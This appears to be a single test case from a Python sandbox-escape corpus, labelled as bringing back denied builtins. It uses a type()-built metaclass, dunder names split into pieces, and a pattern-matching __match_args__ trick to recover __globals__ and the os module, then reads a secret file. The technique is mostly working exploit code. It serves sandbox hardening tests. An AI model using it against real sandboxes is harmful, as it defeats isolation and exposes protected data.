# class: denied builtins come back
# technique: type makes classes without a class statement
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
u = chr(95) * 2
def name(*parts):
    return "".join([u, *parts, u])
Meta = type("Meta", (type,), {name("instance", "check"): lambda cls, value: True})
Reader = Meta("Reader", (), {"".join([u, "match_", "args", u]): (name("glo", "bals"),)})
match quit.__init__:
    case Reader(g):
        pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
